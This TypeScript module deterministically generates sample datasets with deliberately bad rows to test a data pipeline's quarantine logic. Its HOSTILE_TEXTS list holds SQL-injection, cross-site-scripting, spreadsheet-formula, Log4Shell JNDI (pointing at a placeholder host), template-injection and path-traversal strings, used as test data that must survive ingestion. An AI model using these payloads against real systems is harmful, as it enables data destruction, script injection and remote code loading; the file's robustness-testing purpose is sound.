/**
 * Realistic sample records for a customer's sources, with a known share of bad rows,
 * so a room can watch data travel bronze → silver → gold and see what gets quarantined.
 *
 * Deterministic: the same request gives the same bytes (seeded PRNG, no clock, no
 * `Math.random`). Self-contained on purpose (no imports): the AWS generator Lambda
 * ships this exact file as its code, transpiled at synth time.
 */

export const SAMPLE_DATASET_IDS = ['customers', 'orders', 'events', 'sensor_readings', 'app_logs'] as const;
export type SampleDatasetId = (typeof SAMPLE_DATASET_IDS)[number];

/** How a dataset arrives in bronze: a CSV export (relational/file sources) or JSON lines (streams, devices, logs). */
export type SampleFormat = 'csv' | 'jsonl';

/**
 * What a bad row is made to fail on, named as the silver layer's quarantine reason
 * prefix. `injection` rows are valid: hostile text must flow through untouched.
 */
export const DEFECT_KINDS = ['malformed_record', 'missing_required', 'wrong_type', 'out_of_range', 'too_long', 'duplicate_key', 'injection'] as const;
export type DefectKind = (typeof DEFECT_KINDS)[number];

export interface SampleDataRequest {
  readonly datasets: readonly SampleDatasetId[];
  /** Records to generate across all datasets (split by `datasetRecordCounts`). */
  readonly rows: number;
  /** Any string; the same seed gives the same data. The CLI uses the answers hash. */
  readonly seed: string;
  /** Last calendar day (YYYY-MM-DD, UTC) the records cover; they span the 28 days before it. */
  readonly asOf: string;
  /** Share of records (0–0.5) made deliberately bad or hostile. */
  readonly badRowRate: number;
}

export interface SampleFileSummary {
  readonly dataset: SampleDatasetId;
  readonly format: SampleFormat;
  readonly fileName: string;
  /** Records in the file (a CSV header is not a record). */
  readonly records: number;
  /** Records made bad on purpose, by kind; `injection` records are valid. */
  readonly defects: Readonly<Record<DefectKind, number>>;
}

/** Text fields longer than this (in characters) are quarantined as `too_long`. */
export const MAX_TEXT_LENGTH = 4096;

/** The hostile strings a sample carries in free-text fields; each must survive to silver byte for byte. */
export const HOSTILE_TEXTS: readonly string[] = [
  "Robert'); DROP TABLE customers;--",
  "' OR '1'='1",
  '=HYPERLINK("http://example.invalid","click")',
  '<script>alert("x")</script>',
  '${jndi:ldap://example.invalid/a}',
  'line one\nline two, with "quotes"',
  'tab\tseparated; semi;colon',
  '%% --> ]] {{7*7}}',
  'Ação São João — 日本語 🚀',
  '\\\\server\\share\\..\\..\\etc\\passwd',
];

export interface DatasetShape {
  readonly format: SampleFormat;
  /** Column order of the CSV header and of the JSON object keys. */
  readonly columns: readonly string[];
  /** Relative weight when splitting `rows` between the requested datasets. */
  readonly weight: number;
}

export const DATASET_SHAPES: Readonly<Record<SampleDatasetId, DatasetShape>> = {
  customers: { format: 'csv', columns: ['customer_id', 'full_name', 'email', 'country', 'segment', 'signup_date'], weight: 1 },
  orders: { format: 'csv', columns: ['order_id', 'customer_id', 'order_ts', 'status', 'channel', 'amount_usd', 'item_count'], weight: 6 },
  events: { format: 'jsonl', columns: ['event_id', 'customer_id', 'session_id', 'event_type', 'page', 'device', 'event_ts'], weight: 8 },
  sensor_readings: { format: 'jsonl', columns: ['reading_id', 'device_id', 'reading_ts', 'temperature_c', 'humidity_pct', 'battery_pct'], weight: 8 },
  app_logs: { format: 'jsonl', columns: ['request_id', 'log_ts', 'service', 'level', 'status_code', 'latency_ms', 'message'], weight: 6 },
};

export function sampleFileName(dataset: SampleDatasetId): string {
  return `${dataset}.${DATASET_SHAPES[dataset].format === 'csv' ? 'csv' : 'jsonl'}`;
}

/**
 * Splits `rows` between the datasets by weight, exactly: the counts add up to `rows`.
 * Every dataset gets at least one record (an empty one would leave its gold tables empty,
 * and orders and events draw their customer ids from the customers generated), which
 * needs `rows` ≥ the number of datasets; `planLocalPipeline` says so to the user.
 */
export function datasetRecordCounts(request: Pick<SampleDataRequest, 'datasets' | 'rows'>): Record<SampleDatasetId, number> {
  const datasets = SAMPLE_DATASET_IDS.filter((id) => request.datasets.includes(id));
  if (request.rows < datasets.length) throw new Error(`sample data: ${request.rows} rows cannot give one record to each of ${datasets.length} datasets`);
  const totalWeight = datasets.reduce((sum, id) => sum + DATASET_SHAPES[id].weight, 0);
  const counts = {} as Record<SampleDatasetId, number>;
  let assigned = 0;
  datasets.forEach((id, index) => {
    const share =
      index === datasets.length - 1
        ? request.rows - assigned
        : Math.floor((request.rows * DATASET_SHAPES[id].weight) / totalWeight);
    counts[id] = Math.max(1, share);
    assigned += counts[id];
  });
  return counts;
}

/** Customers the fact datasets refer to (orders and events point at these ids). */
function customerPoolSize(request: Pick<SampleDataRequest, 'datasets' | 'rows'>): number {
  const counts = datasetRecordCounts(request);
  return counts.customers ?? Math.max(10, Math.floor(request.rows / 20));
}

// ---------------------------------------------------------------------------------------
// Deterministic randomness

/** 32-bit FNV-1a: turns the seed string (plus a dataset id) into a PRNG state. */
function hashSeed(text: string): number {
  let hash = 0x811c9dc5;
  for (let index = 0; index < text.length; index += 1) {
    hash ^= text.charCodeAt(index);
    hash = Math.imul(hash, 0x01000193);
  }
  return hash >>> 0;
}

/** mulberry32: tiny, fast and good enough for sample data (not for anything secret). */
export function createRandom(seed: string): () => number {
  let state = hashSeed(seed);
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

class Picker {
  constructor(private readonly random: () => number) {}
  next(): number {
    return this.random();
  }
  int(minInclusive: number, maxInclusive: number): number {
    return minInclusive + Math.floor(this.random() * (maxInclusive - minInclusive + 1));
  }
  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.random() * items.length)] as T;
  }
  chance(probability: number): boolean {
    return this.random() < probability;
  }
}

// ---------------------------------------------------------------------------------------
// Value vocabularies

const FIRST_NAMES = ['Ana', 'Bruno', 'Carla', 'Diego', 'Elisa', 'Fábio', 'Gabriela', 'Hugo', 'Isabela', 'João', 'Karen', 'Lucas', 'Mariana', 'Nuno', 'Olivia', 'Pedro', 'Quésia', 'Rafael', 'Sofia', 'Tiago', 'Úrsula', 'Vitor', 'Wendy', 'Yuri', 'Zoe'];
const LAST_NAMES = ['Silva', 'Santos', 'Oliveira', 'Souza', 'Pereira', 'Costa', 'Rodrigues', 'Almeida', 'Nascimento', 'Lima', 'Araújo', 'Fernandes', 'Carvalho', 'Gomes', 'Martins', 'Rocha', 'Smith', 'Jones', 'García', 'Müller'];
const COUNTRIES = ['BR', 'BR', 'BR', 'US', 'PT', 'MX', 'AR', 'CL', 'CO', 'DE', 'GB'];
const SEGMENTS = ['consumer', 'consumer', 'smb', 'enterprise'];
const ORDER_STATUSES = ['placed', 'shipped', 'delivered', 'delivered', 'delivered', 'cancelled', 'returned'];
const CHANNELS = ['web', 'app', 'store', 'marketplace'];
const EVENT_TYPES = ['page_view', 'page_view', 'page_view', 'search', 'add_to_cart', 'checkout', 'login'];
const PAGES = ['/', '/catalog', '/catalog/shoes', '/catalog/books', '/cart', '/checkout', '/account', '/help'];
const DEVICES = ['web', 'ios', 'android'];
const SERVICES = ['checkout-api', 'catalog-api', 'auth-api', 'search-api'];
const LOG_MESSAGES = ['request completed', 'cache miss', 'upstream timeout', 'validation failed', 'token refreshed', 'slow query'];

const pad = (value: number, width: number) => String(value).padStart(width, '0');

export function customerId(index: number): string {
  return `C${pad(index + 1, 7)}`;
}

function dayStartMs(asOf: string): number {
  const parsed = Date.parse(`${asOf}T00:00:00Z`);
  if (!/^\d{4}-\d{2}-\d{2}$/.test(asOf) || Number.isNaN(parsed)) {
    throw new Error(`sample data: asOf must be a calendar date YYYY-MM-DD, received "${asOf}"`);
  }
  return parsed;
}

const WINDOW_DAYS = 28;

/** ISO-8601 UTC timestamp without milliseconds, inside the 28 days that end with `asOf`. */
function timestampIn(picker: Picker, asOfStartMs: number): string {
  const offsetSeconds = picker.int(0, WINDOW_DAYS * 86_400 - 1);
  return new Date(asOfStartMs - (WINDOW_DAYS - 1) * 86_400_000 + offsetSeconds * 1000).toISOString().replace('.000Z', 'Z');
}

// ---------------------------------------------------------------------------------------
// Records

type RecordValue = string | number | null;
type SampleRecord = Record<string, RecordValue>;

interface RecordContext {
  readonly picker: Picker;
  readonly asOfStartMs: number;
  readonly customers: number;
}

const GOOD_RECORD: Record<SampleDatasetId, (index: number, context: RecordContext) => SampleRecord> = {
  customers: (index, { picker, asOfStartMs }) => {
    const first = picker.pick(FIRST_NAMES);
    const last = picker.pick(LAST_NAMES);
    const signup = new Date(asOfStartMs - picker.int(30, 2000) * 86_400_000).toISOString().slice(0, 10);
    return {
      customer_id: customerId(index),
      full_name: `${first} ${last}`,
      email: `${first}.${last}.${index + 1}@example.com`.normalize('NFD').replace(/[\u0300-\u036f]/g, '').toLowerCase(),
      country: picker.pick(COUNTRIES),
      segment: picker.pick(SEGMENTS),
      signup_date: signup,
    };
  },
  orders: (index, { picker, asOfStartMs, customers }) => ({
    order_id: `O${pad(index + 1, 9)}`,
    customer_id: customerId(picker.int(0, customers - 1)),
    order_ts: timestampIn(picker, asOfStartMs),
    status: picker.pick(ORDER_STATUSES),
    channel: picker.pick(CHANNELS),
    amount_usd: (picker.int(500, 50_000) / 100).toFixed(2),
    item_count: picker.int(1, 6),
  }),
  events: (index, { picker, asOfStartMs, customers }) => ({
    event_id: `E${pad(index + 1, 10)}`,
    customer_id: picker.chance(0.3) ? null : customerId(picker.int(0, customers - 1)),
    session_id: `S${pad(picker.int(1, Math.max(1, Math.floor(customers * 3))), 8)}`,
    event_type: picker.pick(EVENT_TYPES),
    page: picker.pick(PAGES),
    device: picker.pick(DEVICES),
    event_ts: timestampIn(picker, asOfStartMs),
  }),
  sensor_readings: (index, { picker, asOfStartMs }) => ({
    reading_id: `R${pad(index + 1, 10)}`,
    device_id: `dev-${pad(picker.int(1, 200), 4)}`,
    reading_ts: timestampIn(picker, asOfStartMs),
    temperature_c: Math.round((18 + picker.next() * 14) * 10) / 10,
    humidity_pct: Math.round((30 + picker.next() * 50) * 10) / 10,
    battery_pct: picker.int(5, 100),
  }),
  app_logs: (index, { picker, asOfStartMs }) => {
    const statusCode = picker.chance(0.06) ? picker.pick([500, 502, 503]) : picker.chance(0.08) ? picker.pick([400, 401, 404]) : 200;
    return {
      request_id: `Q${pad(index + 1, 10)}`,
      log_ts: timestampIn(picker, asOfStartMs),
      service: picker.pick(SERVICES),
      level: statusCode >= 500 ? 'ERROR' : statusCode >= 400 ? 'WARN' : 'INFO',
      status_code: statusCode,
      latency_ms: picker.int(3, statusCode >= 500 ? 5000 : 800),
      message: picker.pick(LOG_MESSAGES),
    };
  },
};

/** Which field each defect kind breaks, per dataset, and how. */
interface DefectRecipe {
  readonly requiredField: string;
  readonly typedField: { readonly name: string; readonly bad: readonly string[] };
  readonly rangedField: { readonly name: string; readonly bad: readonly RecordValue[] };
  readonly textField: string;
}

const DEFECT_RECIPES: Record<SampleDatasetId, DefectRecipe> = {
  customers: {
    requiredField: 'customer_id',
    typedField: { name: 'signup_date', bad: ['31/02/2024', 'yesterday', '2024-13-01'] },
    rangedField: { name: 'signup_date', bad: ['1899-12-31', '2999-01-01'] },
    textField: 'full_name',
  },
  orders: {
    requiredField: 'customer_id',
    typedField: { name: 'amount_usd', bad: ['12,50', 'N/A', 'twelve'] },
    rangedField: { name: 'amount_usd', bad: ['-10.00', '-0.01', '99999999.00'] },
    textField: 'status',
  },
  events: {
    requiredField: 'event_type',
    typedField: { name: 'event_ts', bad: ['not-a-date', '2024-02-30T10:00:00Z', '1700000000'] },
    rangedField: { name: 'event_ts', bad: ['1970-01-01T00:00:00Z', '2999-01-01T00:00:00Z'] },
    textField: 'page',
  },
  sensor_readings: {
    requiredField: 'device_id',
    typedField: { name: 'temperature_c', bad: ['hot', '21,5', 'NaN°C'] },
    rangedField: { name: 'humidity_pct', bad: [140.5, -3] },
    textField: 'device_id',
  },
  app_logs: {
    requiredField: 'service',
    typedField: { name: 'latency_ms', bad: ['fast', '12ms', '1.5.2'] },
    rangedField: { name: 'status_code', bad: [42, 1000] },
    textField: 'message',
  },
};

/** The free-text field that carries hostile (but valid) text. */
const INJECTION_FIELD: Record<SampleDatasetId, string> = {
  customers: 'full_name',
  orders: 'channel',
  events: 'page',
  sensor_readings: 'device_id',
  app_logs: 'message',
};

// ---------------------------------------------------------------------------------------
// Encoding as received

function csvField(value: RecordValue): string {
  if (value === null) return '';
  const text = String(value);
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

function encodeRecord(dataset: SampleDatasetId, record: SampleRecord): string {
  const { format, columns } = DATASET_SHAPES[dataset];
  if (format === 'csv') return columns.map((column) => csvField(record[column] ?? null)).join(',');
  const ordered: SampleRecord = {};
  for (const column of columns) ordered[column] = record[column] ?? null;
  return JSON.stringify(ordered);
}

function malformed(dataset: SampleDatasetId, record: SampleRecord): string {
  const encoded = encodeRecord(dataset, record);
  // A CSV row that lost its trailing columns; a JSON line cut off mid-object.
  if (DATASET_SHAPES[dataset].format === 'csv') return DATASET_SHAPES[dataset].columns.slice(0, 2).map((column) => csvField(record[column] ?? null)).join(',');
  return encoded.slice(0, Math.max(2, Math.floor(encoded.length / 2)));
}

const emptyDefects = (): Record<DefectKind, number> =>
  Object.fromEntries(DEFECT_KINDS.map((kind) => [kind, 0])) as Record<DefectKind, number>;

function validateRequest(request: SampleDataRequest): void {
  if (!Number.isInteger(request.rows) || request.rows < 1) throw new Error(`sample data: rows must be a whole number ≥ 1, received ${request.rows}`);
  if (!(request.badRowRate >= 0 && request.badRowRate <= 0.5)) throw new Error(`sample data: badRowRate must be between 0 and 0.5, received ${request.badRowRate}`);
  if (request.datasets.length === 0) throw new Error('sample data: at least one dataset is needed');
  dayStartMs(request.asOf);
}

/**
 * Yields the file for one dataset in text chunks (header first for CSV), one record
 * per line except where a hostile CSV value holds a quoted line break. Returns the
 * summary, including how many records of each defect kind it wrote.
 */
export function* sampleFileChunks(dataset: SampleDatasetId, request: SampleDataRequest, linesPerChunk = 2000): Generator<string, SampleFileSummary> {
  validateRequest(request);
  const records = datasetRecordCounts(request)[dataset];
  if (records === undefined) throw new Error(`sample data: dataset "${dataset}" was not requested`);
  const shape = DATASET_SHAPES[dataset];
  const picker = new Picker(createRandom(`${request.seed}/${dataset}`));
  const context: RecordContext = { picker, asOfStartMs: dayStartMs(request.asOf), customers: customerPoolSize(request) };
  const recipe = DEFECT_RECIPES[dataset];
  const defects = emptyDefects();
  // Earlier good records a duplicate can repeat; bounded so memory stays flat at any size.
  const recentGood: string[] = [];

  let chunk: string[] = shape.format === 'csv' ? [shape.columns.join(',')] : [];
  for (let index = 0; index < records; index += 1) {
    const record = GOOD_RECORD[dataset](index, context);
    let line: string;
    const drawn: DefectKind | undefined = index > 0 && picker.chance(request.badRowRate) ? picker.pick(DEFECT_KINDS) : undefined;
    // A duplicate needs an earlier good record to repeat; without one the record stays good.
    const kind = drawn === 'duplicate_key' && recentGood.length === 0 ? undefined : drawn;
    switch (kind) {
      case 'malformed_record':
        line = malformed(dataset, record);
        break;
      case 'missing_required':
        line = encodeRecord(dataset, { ...record, [recipe.requiredField]: picker.chance(0.5) ? null : '' });
        break;
      case 'wrong_type':
        line = encodeRecord(dataset, { ...record, [recipe.typedField.name]: picker.pick(recipe.typedField.bad) });
        break;
      case 'out_of_range':
        line = encodeRecord(dataset, { ...record, [recipe.rangedField.name]: picker.pick(recipe.rangedField.bad) });
        break;
      case 'too_long':
        line = encodeRecord(dataset, { ...record, [recipe.textField]: 'x'.repeat(MAX_TEXT_LENGTH + picker.int(1, 60_000)) });
        break;
      case 'duplicate_key':
        line = picker.pick(recentGood);
        break;
      case 'injection':
        line = encodeRecord(dataset, { ...record, [INJECTION_FIELD[dataset]]: picker.pick(HOSTILE_TEXTS) });
        break;
      default:
        line = encodeRecord(dataset, record);
    }
    if (kind !== undefined) defects[kind] += 1;
    if (kind === undefined || kind === 'injection') {
      if (recentGood.length < 64) recentGood.push(line);
      else recentGood[index % 64] = line;
    }
    chunk.push(line);
    if (chunk.length >= linesPerChunk) {
      yield `${chunk.join('\n')}\n`;
      chunk = [];
    }
  }
  if (chunk.length > 0) yield `${chunk.join('\n')}\n`;
  return { dataset, format: shape.format, fileName: sampleFileName(dataset), records, defects };
}

/** The whole file as one string, for small samples (the Lambda, tests). */
export function generateSampleFile(dataset: SampleDatasetId, request: SampleDataRequest): { readonly text: string; readonly summary: SampleFileSummary } {
  const chunks: string[] = [];
  const iterator = sampleFileChunks(dataset, request);
  for (;;) {
    const step = iterator.next();
    if (step.done) return { text: chunks.join(''), summary: step.value };
    chunks.push(step.value);
  }
}
